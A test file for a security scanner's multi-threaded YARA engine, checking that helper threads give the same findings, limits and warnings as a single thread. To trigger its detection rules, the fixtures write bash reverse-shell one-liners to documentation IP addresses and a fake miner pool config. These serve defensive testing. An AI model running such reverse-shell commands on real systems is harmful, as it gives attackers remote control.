/**
 * The yara scanner on several threads (src/scanners/yara/helper_pool.ts): helper threads scan with the rules the
 * scanner's thread compiled, and the report is the one a scan on one thread gives — the same findings in the same
 * order, the same counts and warnings, the same stop at --yara-max-files. A helper that fails leaves its files to
 * the scanner's thread. Needs libyara; ignored with the reason where it cannot be loaded.
 */
import assert from "node:assert/strict";
import type { ScanContext } from "../../src/core/context.ts";
import { type Libyara, loadLibyara, type YaraScanner } from "../../src/scanners/yara/engine.ts";
import { scanWalkedFile } from "../../src/scanners/yara/file_scan.ts";
import { HELPER_MAX_FILE, HelperPool, type Indexed } from "../../src/scanners/yara/helper_pool.ts";
import { compileRuleSet, type RuleSet } from "../../src/scanners/yara/rule_files.ts";
import { ScanRun } from "../../src/scanners/yara/scan_run.ts";
import {
  HELPER_AFTER_FILES,
  MAX_STRING_MATCHES,
  yara,
  yaraHelperCount,
} from "../../src/scanners/yara/scanner.ts";
import { makeTree, mountHungFuse, type OneRun, runOne, testContext } from "../helpers.ts";
import { needs } from "../host_caps.ts";

const RULES = `
rule reverse_shell { strings: $a = "/dev/tcp/" condition: $a }
rule miner_config { strings: $p = "\\"pools\\"" $d = "donate-level" condition: all of them }
rule big_tail { condition: filesize > 4MB and uint8(filesize - 1) == 0x21 }
`;

const enc = new TextEncoder();

/** Files of every kind the threads split: many small ones (some matching), large ones, one over the cap. */
function tree(small = 300) {
  const entries: Record<string, string | { content: Uint8Array }> = { "rules/test.yar": RULES };
  for (let n = 0; n < small; n++) {
    const body = n % 37 === 0
      ? `bash -i >& /dev/tcp/198.51.100.${n % 250}/4444 0>&1\n`
      : n % 53 === 0
      ? `{"pools": [{"url": "pool.example.net:${n}"}], "donate-level": 1}\n`
      : `plain file ${n}\n`.repeat(1 + (n % 50));
    entries[`tree/d${n % 7}/f${String(n).padStart(4, "0")}.txt`] = body;
  }
  for (let n = 0; n < 4; n++) {
    const big = new Uint8Array(HELPER_MAX_FILE + 4096 * (n + 1)).fill(0x2e);
    if (n % 2 === 0) big[big.length - 1] = 0x21;
    if (n === 1) big.set(enc.encode("/dev/tcp/203.0.113.9/53"), 3_000_000);
    entries[`tree/d${n}/big${n}.bin`] = { content: big };
  }
  entries["tree/d0/over-cap.bin"] = { content: new Uint8Array(9 << 20) };
  return makeTree(entries);
}

function shape(r: OneRun) {
  return {
    status: r.status,
    findings: r.findings.map((f) => [f.id, f.metadata.strings, f.metadata.sha256, f.metadata.size]),
    warnings: r.warnings.map((w) => `${w.code}: ${w.detail}`),
  };
}

function yaraMeta(r: OneRun): Record<string, unknown> {
  return r.outcome.meta.yara as Record<string, unknown>;
}

Deno.test("yara threads: one helper per core but this thread, at most three, none with --parallel-threads 1", () => {
  assert.equal(yaraHelperCount(1, 8), 0);
  assert.equal(yaraHelperCount(2, 1), 1, "an explicit --parallel-threads wins over the core count");
  assert.equal(yaraHelperCount(0, 2), 1);
  assert.equal(yaraHelperCount(0, 1), 0);
  assert.equal(yaraHelperCount(0, 64), 3);
});

Deno.test(needs(["libyara"], {
  name: "yara threads: on 2 and 4 threads the report is the one thread's, finding for finding and in order",
  fn: async () => {
    using t = tree();
    const config = { yaraRules: `${t.path}/rules`, yaraRoots: [`${t.path}/tree`], yaraMaxFileSize: 8 };
    const one = await runOne(yara, "/", { ...config, parallelThreads: 1 });
    assert.equal(one.status, "ok", one.reason);
    assert.equal(yaraMeta(one).threads, 1);
    // The tree fires every rule, in small and large files, and has a file over the cap.
    const rules = new Set(one.findings.map((f) => f.metadata.rule));
    assert.deepEqual([...rules].sort(), ["big_tail", "miner_config", "reverse_shell"]);
    assert.ok(one.findings.some((f) => String(f.metadata.path).endsWith("big1.bin")));
    assert.ok(one.warnings.some((w) => String(w.detail).includes("over-cap.bin")));
    for (const threads of [2, 4]) {
      const many = await runOne(yara, "/", { ...config, parallelThreads: threads });
      assert.deepEqual(shape(many), shape(one), `${threads} threads`);
      assert.equal(yaraMeta(many).files_scanned, yaraMeta(one).files_scanned);
      assert.equal(yaraMeta(many).threads, threads, "the helpers started");
      assert.equal(yaraMeta(many).helper_failure, undefined);
    }
  },
}));

Deno.test(needs(["libyara"], {
  name: "yara threads: --yara-max-files stops at the same file on one thread and on two",
  fn: async () => {
    using t = tree();
    const config = {
      yaraRules: `${t.path}/rules`,
      yaraRoots: [`${t.path}/tree`],
      yaraMaxFileSize: 8,
      yaraMaxFiles: 150,
    };
    const one = await runOne(yara, "/", { ...config, parallelThreads: 1 });
    const two = await runOne(yara, "/", { ...config, parallelThreads: 2 });
    assert.equal(yaraMeta(one).files_scanned, 150);
    assert.ok(
      one.warnings.some((w) => String(w.detail).includes("stopped after 150 files (--yara-max-files)")),
    );
    assert.deepEqual(shape(two), shape(one));
    assert.equal(yaraMeta(two).threads, 2);
  },
}));

/** A helper pool over the test rules, driven by hand: one batch at a time, this thread's scans recorded. */
class PoolBench implements Disposable {
  readonly lib: Libyara;
  readonly set: RuleSet;
  readonly ctx: ScanContext;
  readonly scan: ScanRun;
  readonly pool: HelperPool;
  readonly scanner: YaraScanner;
  readonly buffer = new Uint8Array((8 << 20) + 1);
  /** Walk indexes scanned on this thread. */
  readonly here = new Set<number>();
  /** Kept when a helper may still use them (set by the test). */
  keepRules = false;

  constructor(helpers: number, opts: { failAfter?: number; stallMs?: number; remoteFs?: boolean } = {}) {
    const loaded = loadLibyara();
    if (!loaded.ok) throw new Error(loaded.reason);
    this.lib = loaded.lib;
    const compiled = compileRuleSet(loaded.lib, [{ path: "test.yar", text: RULES }]);
    if (!compiled.ok) throw new Error(compiled.errors.join("; "));
    this.set = compiled.set;
    this.ctx = testContext("yara", "/", { config: { remoteFs: opts.remoteFs ?? false } });
    this.scan = new ScanRun(
      this.ctx,
      (m, path) => ({ check_id: "yara.rule.match", subject: `${m.rule.name}:${path}` }),
    );
    this.pool = new HelperPool(
      this.ctx,
      this.scan,
      helpers,
      8 << 20,
      MAX_STRING_MATCHES,
      opts.failAfter,
      opts.stallMs,
    );
    this.scanner = this.set.rules.scanner(MAX_STRING_MATCHES);
  }

  /** A walked file (lstat'ed) with the next walk index. */
  entry(path: string): Indexed {
    const st = Deno.lstatSync(path);
    return { i: this.scan.index(), e: { path, dev: Number(st.dev), ino: Number(st.ino), size: st.size } };
  }

  /** Runs one batch; `before` runs before each scan on this thread. */
  run(batch: Indexed[], before?: (f: Indexed) => Promise<void>, budgetMs = 60_000): Promise<boolean> {
    return this.pool.run(batch, async (f) => {
      await before?.(f);
      this.here.add(f.i);
      this.scan.put(f.i, f.e, scanWalkedFile(this.ctx, f.e, this.scanner, 8 << 20, 10, this.buffer));
    }, performance.now() + budgetMs);
  }

  [Symbol.dispose](): void {
    this.scanner[Symbol.dispose]();
    if (this.keepRules) this.set.rules.abandon();
    this.set[Symbol.dispose]();
  }
}

/** Scans `files` in one batch with `helpers` helper threads (each failing after `failAfter` files). */
async function poolRun(files: string[], helpers: number, failAfter?: number) {
  using b = new PoolBench(helpers, { failAfter });
  const batch = files.map((p) => b.entry(p));
  b.pool.start(b.lib, b.set);
  await b.pool.whenReady(30_000);
  const outOfTime = await b.run(batch);
  const subjects = [...b.scan.take()].map((d) => d.subject);
  const idle = await b.pool.end();
  return { outOfTime, subjects, here: b.here, batch, scanned: b.scan.scanned, idle, failure: b.pool.failure };
}

function treeFiles(root: string): string[] {
  const out: string[] = [];
  const walkDir = (d: string) => {
    for (const e of [...Deno.readDirSync(d)].sort((a, b) => a.name < b.name ? -1 : 1)) {
      if (e.isDirectory) walkDir(`${d}/${e.name}`);
      else if (e.isFile && !e.name.startsWith("over-cap")) out.push(`${d}/${e.name}`);
    }
  };
  walkDir(root);
  return out;
}

Deno.test(needs(["libyara"], {
  name: "yara threads: a helper takes a share of the small files; the large ones stay on this thread",
  fn: async () => {
    using t = tree();
    const files = treeFiles(`${t.path}/tree`);
    assert.ok(files.length > HELPER_AFTER_FILES);
    const r = await poolRun(files, 1);
    assert.equal(r.outOfTime, false);
    assert.equal(r.scanned, files.length, "every file scanned once, by one thread or the other");
    const helped = r.batch.filter((f) => !r.here.has(f.i));
    assert.ok(helped.length > 0, "the helper scanned some files");
    assert.ok(helped.every((f) => f.e.size <= HELPER_MAX_FILE), "large files are scanned here only");
    assert.equal(r.idle, true, "the helper stopped: the rules can be destroyed");
    assert.equal(r.failure, undefined);
  },
}));

Deno.test(needs(["libyara"], {
  name:
    "yara threads: a helper that fails mid-batch leaves its unanswered file to this thread; nothing is lost",
  fn: async () => {
    using t = tree();
    const files = treeFiles(`${t.path}/tree`);
    const whole = await poolRun(files, 0);
    const failing = await poolRun(files, 1, 3);
    assert.match(failing.failure ?? "", /failing as the test asked/);
    assert.equal(failing.scanned, files.length);
    assert.deepEqual(failing.subjects, whole.subjects);
    assert.equal(failing.idle, true, "a helper that failed scans nothing more");
  },
}));

Deno.test(needs(["libyara"], {
  name:
    "yara threads: a helper whose library cannot be attached fails at once and this thread scans everything",
  fn: async () => {
    using t = tree(40);
    const files = treeFiles(`${t.path}/tree`);
    using b = new PoolBench(1);
    b.pool.start({ path: "/nonexistent/libyara.so", layout: b.lib.layout } as Libyara, b.set);
    await b.pool.whenReady(30_000); // here: until it has failed
    await b.run(files.map((p) => b.entry(p)));
    [...b.scan.take()];
    assert.equal(b.scan.scanned, files.length);
    assert.match(b.pool.failure ?? "", /nonexistent/);
    assert.equal(await b.pool.end(), true);
  },
}));

Deno.test(needs(["libyara", "fuse"], {
  name:
    "yara threads: a helper blocked in a read of a hung mount is given up on; its file is reported, the rest scanned",
  fn: async () => {
    using t = tree(40);
    Deno.mkdirSync(`${t.path}/hung`);
    const files = treeFiles(`${t.path}/tree`);
    // The helper's Host may read remote and FUSE filesystems (--remote-fs): else it refuses the hung mount at once.
    using b = new PoolBench(1, { stallMs: 300, remoteFs: true });
    {
      using _hung = mountHungFuse(`${t.path}/hung`);
      // The hung file comes first; this thread is busy with a large file meanwhile, so the helper takes it.
      const hung = { i: b.scan.index(), e: { path: `${t.path}/hung/file`, dev: 1, ino: 1, size: 10 } };
      const { batch, before } = helperFirst(b, hung, files, 300);
      b.pool.start(b.lib, b.set);
      await b.pool.whenReady(30_000);
      const t0 = performance.now();
      await b.run(batch, before);
      assert.ok(performance.now() - t0 < 20_000, "given up on after its stall time, not at the deadline");
      [...b.scan.take()];
      assert.equal(b.scan.scanned, batch.length - 1, "every other file scanned");
      b.scan.finish(8);
      assert.equal(await b.pool.end(), false, "not idle: the rules must not be destroyed");
      b.keepRules = true;
    }
    const warnings = b.ctx.warnings.map((w) => String(w.detail));
    assert.ok(
      warnings.some((d) => /1 file\(s\) taken by a helper thread that did not answer in time/.test(d)),
      warnings.join("\n"),
    );
  },
}));

/** A batch whose first file the helper takes: this thread is busy with a large file (`slowMs`) first. */
function helperFirst(b: PoolBench, first: Indexed, files: string[], slowMs: number) {
  const batch: Indexed[] = [
    first,
    b.entry(files.find((p) => p.endsWith("big0.bin"))!),
    ...files.filter((p) => !p.endsWith(".bin")).map((p) => b.entry(p)),
  ];
  const before = async (f: Indexed) => {
    if (f.e.size > HELPER_MAX_FILE) await new Promise((r) => setTimeout(r, slowMs));
  };
  return { batch, before };
}

Deno.test(needs(["libyara"], {
  name:
    "yara threads: a file that grew past the helpers' 4 MiB (not the scan's cap) since the walk is scanned here",
  fn: async () => {
    using t = tree(40);
    const files = treeFiles(`${t.path}/tree`);
    const grown = `${t.path}/tree/grown.log`;
    Deno.writeTextFileSync(grown, "small at walk time\n");
    using b = new PoolBench(1);
    const { batch, before } = helperFirst(b, b.entry(grown), files, 300);
    // It grows to 5 MiB, with a match at its end, after the walk and before any thread reads it.
    Deno.writeFileSync(grown, new Uint8Array(5 << 20).fill(0x2e), { append: true });
    Deno.writeTextFileSync(grown, "bash -i >& /dev/tcp/192.0.2.1/443 0>&1\n", { append: true });
    b.pool.start(b.lib, b.set);
    await b.pool.whenReady(30_000);
    assert.equal(await b.run(batch, before), false);
    const subjects = [...b.scan.take()].map((d) => d.subject);
    assert.equal(b.scan.scanned, batch.length, "scanned, not reported as over the cap");
    assert.ok(subjects.includes(`reverse_shell:${grown}`), subjects.join("\n"));
    assert.ok(b.here.has(batch[0].i), "scanned on this thread");
    b.scan.finish(8);
    assert.deepEqual(b.ctx.warnings.map((w) => w.detail).filter((d) => String(d).includes("over")), []);
    assert.equal(await b.pool.end(), true);
  },
}));

Deno.test(needs(["libyara"], {
  name: "yara threads: when a helper fails after the deadline its file is left, and the scan stops there",
  fn: async () => {
    using t = tree(40);
    const files = treeFiles(`${t.path}/tree`);
    using b = new PoolBench(1, { failAfter: 0 });
    // Two files: the helper takes the small one and fails; this thread's large one outlasts the 300 ms left, so
    // every file was taken in time but the helper's cannot be scanned here any more.
    const { batch, before } = helperFirst(
      b,
      b.entry(files.find((p) => p.endsWith("f0000.txt"))!),
      files,
      600,
    );
    b.pool.start(b.lib, b.set);
    await b.pool.whenReady(30_000);
    assert.equal(await b.run(batch.slice(0, 2), before, 300), true, "out of time with a file left");
    [...b.scan.take()];
    assert.equal(b.scan.scanned, 0, "nothing after the file left is taken");
    assert.ok(b.scan.inFlight > 0);
    assert.match(b.pool.failure ?? "", /failing as the test asked/);
    assert.equal(await b.pool.end(), true);
  },
}));

Deno.test("yara threads: matches that could not be read count with their file's result when it is taken, not before", () => {
  const ctx = testContext("yara", "/");
  const scan = new ScanRun(
    ctx,
    (m, path) => ({ check_id: "yara.rule.match", subject: `${m.rule.name}:${path}` }),
  );
  const ok = { kind: "scanned" as const, result: { ok: true as const, matches: [], tooManyMatches: false } };
  const file = (n: number) => ({ path: `/f${n}`, size: 1 });
  scan.put(scan.index(), file(0), { ...ok, size: 1, sha256: "", shrank: false }, {
    count: 2,
    first: "bad string",
  });
  scan.index(); // file 1: never answered (the scan stopped there)
  scan.put(scan.index(), file(2), { ...ok, size: 1, sha256: "", shrank: false }, {
    count: 5,
    first: "other",
  });
  assert.deepEqual([...scan.take()], []);
  scan.drop();
  scan.finish(32);
  assert.deepEqual(
    ctx.warnings.map((w) => `${w.code}: ${w.detail}`),
    ["yara_engine_error: 2 match(es) could not be read: bad string"],
  );
});
